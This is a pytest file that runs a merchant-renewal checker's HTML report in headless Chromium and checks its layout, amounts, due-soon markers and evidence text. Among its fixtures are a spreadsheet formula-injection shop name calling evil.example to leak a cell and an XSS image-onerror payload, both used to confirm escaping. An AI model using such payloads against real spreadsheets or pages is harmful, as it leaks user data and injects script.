"""The HTML page as its reader sees it, in headless Chromium: every figure of the summary
whole inside its card, an amount that cannot be told apart from ¥0, the merchants due soon
counted and marked as the other outputs word it, a table that fits 1280 px with no id
broken across lines, and a finding's dict of evidence in words.

Skipped without Chromium and playwright, unless RENEWAL_REQUIRE_BROWSER=1 (see test_html).
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import orjson
import pytest
from conftest import EXPORT_HEADER, XLSX, Collect, renewal, renewed_row
from test_html import Visit, embedded

from renewal import i18n
from renewal.model import OUTCOME_ORDER
from renewal.pipeline import check_file
from renewal.render.html import HtmlRenderer
from renewal.render.htmlpage import SCRIPT_TEXT
from renewal.ruleset import load
from renewal.timeutil import BEIJING

AS_OF = "2021-12-25 12:00"
"""A day and six hours before the 2022 deadline: pending merchants are due soon."""
LANGS = ("zh", "en")
LOCALES = {"zh": "zh-CN", "en": "en-US"}


@pytest.fixture()
def visit(browser: Any) -> Iterator[Any]:
    opened: list[Visit] = []

    def open_visit(path: Path, lang: str, width: int = 1280) -> Visit:
        opened.append(Visit(browser, path, LOCALES[lang]))
        opened[-1].page.set_viewport_size({"width": width, "height": 900})
        return opened[-1]

    yield open_visit
    for one in opened:
        one.close()


def _page(
    folder: Path,
    lang: str,
    rules: str = "tmall-2022",
    as_of: datetime = datetime(2021, 12, 25, 12, 0, tzinfo=BEIJING),
    summary: dict[str, object] | None = None,
    results: list[dict[str, Any]] | None = None,
) -> Path:
    """The fixture's page, drawn by the renderer itself so that its summary or its results
    can be replaced by ones no small export yields."""
    collect = Collect()
    check_file(XLSX, load(rules), as_of, lang, [collect])
    assert collect.header is not None
    page = folder / f"{rules}-{lang}.html"
    renderer = HtmlRenderer(page)
    renderer.begin(collect.header)
    for result in results if results is not None else collect.results:
        renderer.add(orjson.dumps(result), True, None)
    renderer.finish({**collect.summary, **(summary or {})}, {})
    return page


def _cli_run(folder: Path, lang: str, export: Path = XLSX) -> tuple[Path, dict[str, Any], list]:
    """The page, the JSON report and the CSV rows of one run at AS_OF."""
    page, report, table = folder / "r.html", folder / "r.json", folder / "r.csv"
    options = ("--rules", "tmall-2022", "--as-of", AS_OF, "--lang", lang, "--fail-on", "never")
    run = renewal("check", export, *options, "-q", "-o", page, "-o", report, "-o", table)
    assert run.returncode == 0, run.stderr
    text = table.read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return page, json.loads(report.read_text(encoding="utf-8")), rows


# --- the summary: every figure whole ------------------------------------------------------

DEPOSIT, FEE = 5_004_499_279.62, 1_234_567_890.12
OUTCOMES = {
    "error": 123_456,
    "failed": 234_567,
    "pending": 345_678,
    "waived": 0,
    "renewed": 456_789,
    "exempt": 74_077,
}
HUGE: dict[str, object] = {
    "merchants": sum(OUTCOMES.values()),
    "outcomes": OUTCOMES,
    "deposit_shortfall_total": DEPOSIT,
    "annual_fee_due_total": FEE,
    "deposit_shortfall_unknown": 100_328,
    "annual_fee_due_unknown": 137_261,
    "transfer_eligible": 123_725,
    "due_soon": {"within_seconds": 3 * 86400, "merchants": 345_678},
}
"""A summary of a very large run: amounts in the billions, counts over 100,000."""

OUTSIDE = """cards => cards.flatMap(card => {
    const box = card.getBoundingClientRect();
    const walker = document.createTreeWalker(card, NodeFilter.SHOW_TEXT);
    const out = [];
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
        if (!node.data.trim()) continue;
        const range = document.createRange();
        range.selectNodeContents(node);
        for (const r of range.getClientRects()) {
            if (r.left < box.left - 0.5 || r.right > box.right + 0.5 ||
                r.top < box.top - 0.5 || r.bottom > box.bottom + 0.5) out.push(node.data);
        }
        // an ancestor that hides what overflows it (an SVG does) must hold the text whole
        for (let up = node.parentElement; up && up !== card; up = up.parentElement) {
            const clip = up.getBoundingClientRect();
            const hides = getComputedStyle(up).overflow !== "visible";
            for (const r of range.getClientRects()) {
                if (hides && (r.left < clip.left - 0.5 || r.right > clip.right + 0.5)) out.push(node.data);
            }
        }
    }
    return out;
})"""
"""The texts of the cards drawn (in part) outside their card or their clipping box."""


@pytest.mark.parametrize("width", [1280, 390])
@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("rules", ["tmall-2022", "tmall-2025"])
def test_every_figure_of_the_summary_is_whole_inside_its_card(
    visit: Any, tmp_path: Path, lang: str, width: int, rules: str
) -> None:
    """Billions owed and hundreds of thousands of merchants, on a desktop and on a phone, in
    a year with an annual fee and in one without: no figure is cut off or drawn outside
    its card, and each reads in full."""
    as_of = datetime(2021 if rules == "tmall-2022" else 2024, 12, 25, 12, 0, tzinfo=BEIJING)
    page_file = _page(tmp_path, lang, rules, as_of, HUGE)
    seen = visit(page_file, lang, width)
    page = seen.open()
    assert page.eval_on_selector_all("#summary .card", OUTSIDE) == []
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    has_fee = rules == "tmall-2022"
    money = page.locator("#money-chart").inner_text()
    assert i18n.yuan(DEPOSIT) in money
    assert (i18n.yuan(FEE) in money) is has_fee
    total = DEPOSIT + FEE if has_fee else DEPOSIT
    for figure in (i18n.yuan(total), "123,725", "100,328"):
        assert figure in money, figure
    assert ("137,261" in money) is has_fee
    chart = page.locator("#outcome-chart").inner_text()
    assert f"{sum(OUTCOMES.values()):,}" in page.locator("#summary").inner_text()
    for outcome, count in OUTCOMES.items():
        assert f"{count:,}" in chart or outcome == "waived"  # no waived row without --waivers
    seen.clean()


# --- amounts: unknown is not ¥0 -------------------------------------------------------------


LINES = """cells => cells.map(cell => {
    const range = document.createRange();
    range.selectNodeContents(cell);
    return new Set([...range.getClientRects()].filter(r => r.width > 0).map(r => Math.round(r.top))).size;
})"""
"""How many lines each cell's text takes."""


def _cells(page: Any, column: int) -> list[str]:
    """The text of one column, merchant by merchant, in the order shown."""
    return page.eval_on_selector_all(
        "#merchant-rows tr.merchant", f"rows => rows.map(r => r.cells[{column}].innerText)"
    )


@pytest.mark.parametrize("lang", LANGS)
def test_an_unknown_amount_reads_unknown_and_nothing_owed_reads_0(
    visit: Any, tmp_path: Path, lang: str
) -> None:
    """The CSV leaves an amount that cannot be told blank and writes 0 for nothing owed;
    the page says 未知 / unknown for the one and ¥0 for the other, and its most urgent
    first ranks an unknown amount before every known one of the same outcome."""
    page_file, report, rows = _cli_run(tmp_path, lang)
    seen = visit(page_file, lang)
    page = seen.open()
    page.select_option("#order", "row")
    merchants = report["merchants"]
    labels = i18n.listing_labels(lang)
    unknown = SCRIPT_TEXT[lang]["unknown"]
    for column, key, header in ((5, "deposit_shortfall", "deposit"), (6, "annual_fee_due", "fee")):
        shown = _cells(page, column)
        assert len(shown) == len(merchants) == len(rows)
        for cell, merchant, row in zip(shown, merchants, rows, strict=True):
            amount, written = merchant[key], row[labels[header]]
            if amount is None:
                assert (cell, written) == (unknown, ""), merchant["merchant_id"]
            else:
                assert cell == i18n.yuan(amount) and float(written) == amount
        kinds = {merchant[key] is None for merchant in merchants} | {
            merchant[key] == 0 for merchant in merchants
        }
        assert kinds == {True, False}  # both an unknown and a zero amount are there
    assert set(page.eval_on_selector_all("#merchant-rows td.money", LINES)) == {1}
    # most urgent first: by outcome, then the most known to be owed, an unknown amount
    # above the same known one (so above owing nothing), then the row
    page.select_option("#order", "urgent")
    order = page.eval_on_selector_all(
        "#merchant-rows tr.merchant", "rows => rows.map(r => Number(r.dataset.index))"
    )
    rank = {outcome.value: position for position, outcome in enumerate(OUTCOME_ORDER)}

    def key(index: int) -> tuple[int, float, bool, int]:
        merchant = merchants[index]
        amounts = (merchant["deposit_shortfall"], merchant["annual_fee_due"])
        known = sum(amount for amount in amounts if amount is not None)
        return (rank[merchant["outcome"]], -known, None not in amounts, index)

    assert [key(i) for i in order] == sorted(key(i) for i in order)
    pending = [key(i)[1:3] for i in order if merchants[i]["outcome"] == "pending"]
    # an unknown amount with nothing known ranks above owing nothing, not among the zeros
    assert (0, False) in pending and (0, True) in pending
    assert pending.index((0, False)) < pending.index((0, True))
    seen.clean()


# --- due soon ------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", LANGS)
def test_the_merchants_due_soon_are_counted_and_marked_as_the_other_outputs_say(
    visit: Any, tmp_path: Path, lang: str
) -> None:
    """The count says what the terminal says; each merchant's time left reads as its CSV
    cell, 1天6小时（即将截止） / 1d 6h (due soon), and only a merchant due soon is marked."""
    page_file, report, rows = _cli_run(tmp_path, lang)
    options = ("--rules", "tmall-2022", "--as-of", AS_OF, "--lang", lang, "--fail-on", "never")
    terminal = renewal("check", XLSX, *options, "--limit", "1")
    said = [line for line in terminal.stdout.splitlines() if "--due-soon" in line]
    assert len(said) == 1
    soon = report["summary"]["due_soon"]["merchants"]
    assert soon > 0 and str(soon) in said[0]
    seen = visit(page_file, lang)
    page = seen.open()
    page.select_option("#order", "row")
    assert page.locator("#due-soon").inner_text() == said[0].strip()
    left = _cells(page, 9)
    written = [row[i18n.catalog(lang)["annotated.time_left"]] for row in rows]
    assert left == written
    mark = i18n.catalog(lang)["annotated.due_soon"].format(left="")
    marked = [m["due_soon"] and (m["time_left_seconds"] or 0) > 0 for m in report["merchants"]]
    assert [cell.endswith(mark) for cell in left] == marked
    assert sum(marked) == soon
    seen.clean()


# --- the table's layout ----------------------------------------------------------------------

LONG_NAME = "a" * 40 + "超长" * 180
"""A 400-character shop name, its first 40 characters one word."""


def _wide_export(folder: Path) -> Path:
    """Merchants with 13-digit ids, a long id, a 400-character shop name and an unbroken
    one, some pending (no agreement signed: a reason and a next action to read)."""
    path = folder / "wide.csv"
    names = [
        LONG_NAME,
        '=HYPERLINK("http://evil.example/?leak="&A3,"点我领取续签补贴")',
        "半夏旗舰店",
    ]
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow([*EXPORT_HEADER, "店铺名称"])
        for number in range(12):
            merchant = f"631053618{8520 + number}" if number != 5 else "M-" + "9" * 24
            row = renewed_row(merchant)
            if number % 2:
                row[EXPORT_HEADER.index("协议签署时间")] = ""
            writer.writerow([*row, names[number % len(names)]])
    return path


LAYOUT = """() => {
    const table = document.getElementById("merchant-table");
    const main = document.querySelector("main");
    const pad = parseFloat(getComputedStyle(main).paddingRight);
    const lines = cell => {
        const range = document.createRange();
        range.selectNodeContents(cell);
        return new Set([...range.getClientRects()].filter(r => r.width > 0).map(r => Math.round(r.top))).size;
    };
    const rows = [...document.querySelectorAll("#merchant-rows tr.merchant")];
    const em = parseFloat(getComputedStyle(table).fontSize);
    return {
        page: document.documentElement.scrollWidth,
        tableRight: table.getBoundingClientRect().right,
        room: main.getBoundingClientRect().right - pad,
        headRight: Math.max(...[...table.querySelectorAll("th")].map(th => th.getBoundingClientRect().right)),
        idLines: rows.map(r => lines(r.querySelector("td.id"))),
        ids: rows.map(r => [r.querySelector("td.id").title, r.querySelector("td.id").textContent]),
        narrowest: Math.min(...rows.flatMap(r => ["td.reason", "td.next"].map(s => r.querySelector(s).getBoundingClientRect().width))) / em,
        shop: rows.map(r => [r.querySelector("td.shop").title, (r.querySelector("td.shop .clamp") || r.querySelector("td.shop")).getBoundingClientRect().height / em]),
    };
}"""


@pytest.mark.parametrize("lang", LANGS)
def test_the_table_fits_1280_px_and_no_id_is_broken(visit: Any, tmp_path: Path, lang: str) -> None:
    """A 400-character shop name takes no room from the reason and the next action (each
    at least 9em wide), no id is broken across lines, the table fits a 1280 px window
    in either language, and a shop name cut short is whole in its tooltip."""
    page_file, report, _ = _cli_run(tmp_path, lang, _wide_export(tmp_path))
    seen = visit(page_file, lang)
    page = seen.open()
    found = page.evaluate(LAYOUT)
    assert found["page"] <= 1280
    assert found["tableRight"] <= found["room"] + 0.5 and found["headRight"] <= found["room"] + 0.5
    assert set(found["idLines"]) == {1}
    assert all(title == text for title, text in found["ids"])
    assert found["narrowest"] >= 9 - 0.05
    names = {m["shop_name"] for m in report["merchants"]}
    assert {title for title, _ in found["shop"]} == names
    assert max(height for _, height in found["shop"]) < 5  # three lines at most
    # the whole name is in the merchant's findings too
    page.fill("#search", "aaaa")
    page.locator("#merchant-rows tr.merchant").first.click()
    assert LONG_NAME in page.locator("#merchant-rows tr.detail").inner_text()
    seen.clean()


# --- evidence in words -------------------------------------------------------------------------


@pytest.mark.parametrize("lang", LANGS)
def test_a_dict_of_evidence_reads_as_words(visit: Any, tmp_path: Path, lang: str) -> None:
    """TB01's points and their limits read as the workbook and JUnit word them (the
    catalogue's evidence.*), not as JSON; a key without a label is shown as it is, as text
    (one named like the catalogue's own `other` too), and a list item by item."""
    collect = Collect()
    check_file(
        XLSX, load("tmall-2022"), datetime(2021, 12, 25, 12, tzinfo=BEIJING), lang, [collect]
    )
    results = [dict(r) for r in collect.results]
    target = next(
        r
        for r in results
        if any(f["rule"] == "TB01" and isinstance(f["expected"], dict) for f in r["findings"])
    )
    hostile = {
        "<img src=x onerror=alert(1)>": "<b>x</b>",
        "constructor": 2,
        "other": 3,
        "serious": 1.5,
    }
    findings = []
    for found in target["findings"]:
        findings.append(found)
        if found["rule"] == "TB01":
            tb01 = found
            findings.append({**found, "rule": "ZZ99", "expected": hostile, "actual": [1, True]})
    target["findings"] = findings
    page_file = _page(tmp_path, lang, results=results)
    assert "ZZ99" in json.dumps(embedded(page_file)["merchants"])
    seen = visit(page_file, lang)
    page = seen.open()
    page.fill("#search", target["merchant_id"])
    page.locator("#merchant-rows tr.merchant").click()
    detail = page.locator("#merchant-rows tr.detail")
    texts = i18n.catalog(lang)
    evidence = detail.locator(".finding", has=page.locator(".code:text-is('TB01')")).inner_text()
    for key, value in (*tb01["expected"].items(), *tb01["actual"].items()):
        shown = i18n.points(value) if not isinstance(value, bool) else SCRIPT_TEXT[lang]["no"]
        assert texts[f"evidence.{key}"].format(value=shown) in evidence, key
    assert "{" not in evidence and "serious_below" not in evidence
    other = detail.locator(".finding", has=page.locator(".code:text-is('ZZ99')")).inner_text()
    pair = texts["evidence.other"]
    assert pair.format(key="<img src=x onerror=alert(1)>", value="<b>x</b>") in other
    assert pair.format(key="constructor", value="2") in other
    assert pair.format(key="other", value="3") in other
    assert texts["evidence.serious"].format(value="1.5") in other
    assert SCRIPT_TEXT[lang]["list"].join(["1", SCRIPT_TEXT[lang]["yes"]]) in other
    assert page.locator("main img, main b").count() == 0
    seen.clean()
